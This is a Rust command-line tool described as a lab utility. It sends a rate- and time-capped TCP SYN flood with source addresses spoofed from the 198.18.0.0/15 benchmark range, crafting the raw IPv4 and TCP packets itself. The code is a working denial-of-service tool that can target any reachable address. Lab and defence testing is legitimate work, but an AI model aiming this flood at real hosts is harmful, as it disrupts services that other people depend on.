//! A flood of SYNs with spoofed sources, bounded in rate and time, for labs.
//!
//! `lab-flood ADDRESS:PORT RATE SECONDS`; prints `sent N`. Sources are those of 198.18.0.0/15, which
//! is for benchmarks (RFC 2544).
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use anyhow::{Context, ensure};
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};

/// More is no lab any more.
const MOST: (u64, u64) = (200_000, 30);

fn main() -> anyhow::Result<()> {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let [to, rate, seconds] = &words[..] else {
        anyhow::bail!("usage: lab-flood ADDRESS:PORT RATE SECONDS");
    };
    let to: SocketAddrV4 = to.parse()?;
    let (rate, seconds): (u64, u64) = (rate.parse()?, seconds.parse()?);
    ensure!((1..=MOST.0).contains(&rate) && (1..=MOST.1).contains(&seconds), "at most {MOST:?}");
    let raw = socket(AddressFamily::Inet, SockType::Raw, SockFlag::empty(), SockProtocol::Raw)
        .context("a raw socket")?;
    let address = SockaddrIn::from(to);
    let (began, total) = (Instant::now(), rate * seconds);
    // Another process sends other SYNs.
    let first = u64::from(std::process::id()) * MOST.0 * MOST.1;
    let (mut n, mut sent) = (0, 0_u64);
    while n < total {
        let due = u64::try_from(began.elapsed().as_micros())?.saturating_mul(rate) / 1_000_000;
        while n < due.min(total) {
            // A full queue loses one: it is a flood.
            sent += u64::from(
                sendto(raw.as_raw_fd(), &syn(first + n, to), &address, MsgFlags::empty()).is_ok(),
            );
            n += 1;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    println!("sent {sent}");
    Ok(())
}

/// The n-th SYN: IPv4 (RFC 791) and TCP (RFC 9293), without options.
fn syn(n: u64, to: SocketAddrV4) -> [u8; 40] {
    let mixed = n.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 20;
    let host = u32::try_from(mixed & 0x1_ffff).unwrap_or_default();
    let from = Ipv4Addr::from(0xc612_0000 | host);
    let port = 1024 + u16::try_from(mixed >> 17 & 0x7fff).unwrap_or_default();
    let mut p = [0; 40];
    (p[0], p[3], p[8], p[9]) = (0x45, 40, 64, 6);
    p[12..16].copy_from_slice(&from.octets());
    p[16..20].copy_from_slice(&to.ip().octets());
    p[20..22].copy_from_slice(&port.to_be_bytes());
    p[22..24].copy_from_slice(&to.port().to_be_bytes());
    p[24..28].copy_from_slice(&host.to_be_bytes());
    (p[32], p[33], p[34]) = (0x50, 0x02, 0xff);
    // The kernel fills in the IP header's; this is TCP's, over its pseudo-header.
    let words = p[12..].chunks(2).map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])));
    let mut sum: u32 = words.sum::<u32>() + 6 + 20;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let check = !u16::try_from(sum).unwrap_or_default();
    p[36..38].copy_from_slice(&check.to_be_bytes());
    p
}
